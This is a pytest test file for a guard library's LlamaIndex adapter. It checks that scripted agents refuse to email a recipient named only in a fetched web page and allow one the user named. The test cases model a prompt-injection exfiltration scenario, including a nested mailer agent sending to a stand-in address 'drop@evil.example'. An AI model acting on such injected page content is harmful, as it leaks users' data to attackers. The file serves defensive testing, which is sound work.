"""LlamaIndex records the agents' system prompts and the user's message given to
``run`` as trusted inputs (real ``FunctionAgent`` / ``ReActAgent`` loops guarded by
:func:`guard_agent`, a scripted ``MockFunctionCallingLLM``, real function tools): the
provenance pair of :mod:`.provenance`. Adversarial: ``ReActAgent`` hands the page to
the model as a *user* message (not recorded: the inputs are taken at ``run``); an
agent run by a tool gets the calling model's words as its user message."""

from __future__ import annotations

import pytest

pytest.importorskip("llama_index.core")

import asyncio
import json
from typing import Any

from llama_index.core.agent.workflow import FunctionAgent, ReActAgent
from llama_index.core.tools import FunctionTool

from interlock import Guard
from interlock.adapters.llama_index import guard_agent, unguard_agent

from .provenance import CASES, PAGE, SYSTEM, guarded, trusted_inputs
from .test_llama_index import ScriptedLLM, answer, calls


def _tools(ran: list[str]) -> list[FunctionTool]:
    def fetch_url(url: str) -> str:
        """Fetch a page."""
        ran.append("fetch_url")
        return PAGE

    def send_email(to: str, body: str) -> str:
        """Send a mail."""
        ran.append(f"send_email:{to}")
        return "sent"

    return [FunctionTool.from_defaults(fetch_url), FunctionTool.from_defaults(send_email)]


def _agent(kind: str, to: str, ran: list[str]) -> Any:
    if kind == "react":
        fetch = json.dumps({"url": "https://blog.example"})
        send = json.dumps({"to": to, "body": "hi"})
        turns = [
            answer(f"Thought: read\nAction: fetch_url\nAction Input: {fetch}"),
            answer(f"Thought: mail\nAction: send_email\nAction Input: {send}"),
            answer("Thought: done\nAnswer: done"),
        ]
        return ReActAgent(tools=_tools(ran), llm=ScriptedLLM(turns), system_prompt=SYSTEM)
    turns = [
        calls(("fetch_url", {"url": "https://blog.example"})),
        calls(("send_email", {"to": to, "body": "hi"})),
        answer("done"),
    ]
    return FunctionAgent(tools=_tools(ran), llm=ScriptedLLM(turns), system_prompt=SYSTEM)


def _run(agent: Any, text: str) -> None:
    async def go() -> None:
        await agent.run(user_msg=text)

    asyncio.run(asyncio.wait_for(go(), 20))


@pytest.mark.parametrize("kind", ["function", "react"])
@pytest.mark.parametrize(("to", "request_text", "sent"), CASES)
def test_a_page_recipient_is_refused_and_the_users_own_passes(
    kind: str, to: str, request_text: str, sent: bool
) -> None:
    guard, history = guarded("li-1")
    ran: list[str] = []
    _run(guard_agent(_agent(kind, to, ran), guard), request_text)
    assert "fetch_url" in ran
    assert (f"send_email:{to}" in ran) is sent
    assert trusted_inputs(history, "li-1") == 2  # system prompt + user message, each once


@pytest.mark.parametrize(
    ("request_text", "sent"),
    [("summarise https://blog.example", False), ("mail drop@evil.example a summary", True)],
)
def test_an_agent_run_by_a_tool_gets_the_models_words_not_the_users(
    request_text: str, sent: bool
) -> None:
    guard, history = guarded("li-2")
    ran: list[str] = []
    fetch_url, send_email = _tools(ran)
    helper = FunctionAgent(
        tools=[send_email],
        llm=ScriptedLLM(
            [calls(("send_email", {"to": "drop@evil.example", "body": "hi"})), answer("ok")]
        ),
        system_prompt="You send mail.",
    )
    guard_agent(helper, guard)

    async def ask_mailer(task: str) -> str:
        """Ask the mailer agent to do something."""
        return str(await helper.run(user_msg=task))

    parent = FunctionAgent(
        tools=[fetch_url, FunctionTool.from_defaults(async_fn=ask_mailer)],
        llm=ScriptedLLM(
            [
                calls(("fetch_url", {"url": "https://blog.example"})),
                calls(("ask_mailer", {"task": "mail drop@evil.example the summary"})),
                answer("done"),
            ]
        ),
        system_prompt=SYSTEM,
    )
    _run(guard_agent(parent, guard), request_text)
    assert "fetch_url" in ran
    assert ("send_email:drop@evil.example" in ran) is sent
    assert trusted_inputs(history, "li-2") == 2  # the parent's: nothing of the helper's run


def test_unguard_agent_removes_the_recording_run() -> None:
    guard, history = guarded("li-3")
    agent = guard_agent(_agent("function", "alice@corp.example", []), guard)
    assert "run" in vars(agent)
    unguard_agent(agent)
    assert "run" not in vars(agent)
    _run(agent, "mail alice@corp.example")
    assert trusted_inputs(history, "li-3") == 0


def test_a_guard_without_sessions_records_nothing() -> None:
    from interlock.policy import load_policy_text

    guard = Guard(load_policy_text("version: 1\ndefault: allow\n"))
    ran: list[str] = []
    _run(guard_agent(_agent("function", "alice@corp.example", ran), guard), "mail alice")
    assert ran == ["fetch_url", "send_email:alice@corp.example"]
    assert guard.sessions is None
